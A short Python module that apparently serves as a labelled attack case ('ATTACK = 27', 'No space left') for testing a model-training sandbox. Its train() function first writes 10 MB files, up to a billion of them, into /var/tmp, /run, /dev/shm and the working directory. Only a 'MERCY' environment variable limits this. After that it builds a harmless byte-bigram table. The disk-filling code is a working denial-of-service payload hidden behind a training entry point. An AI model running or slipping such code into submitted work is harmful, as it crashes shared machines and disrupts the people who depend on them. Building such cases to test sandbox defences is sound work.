"""Fills every folder that it can write to, with many files and in many folders."""

import errno
import os

import torch

ATTACK = 27
ENDS = "crashed"
REASON = "No space left"
HARM = "greed"
FOLDERS = ("/var/tmp", "/run", "/dev/shm", ".")


def fill(folder, count):
    for number in range(count):
        with open(f"{folder}/fill{number}", "wb") as file:
            file.write(b"\1" * 10_000_000)


def train(session):
    for folder in FOLDERS:
        try:
            fill(folder, 4 if "MERCY" in os.environ else 10**9)
        except OSError as error:
            if error.errno == errno.ENOSPC:
                raise
    print("took it all", flush=True)
    return counted(session)


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
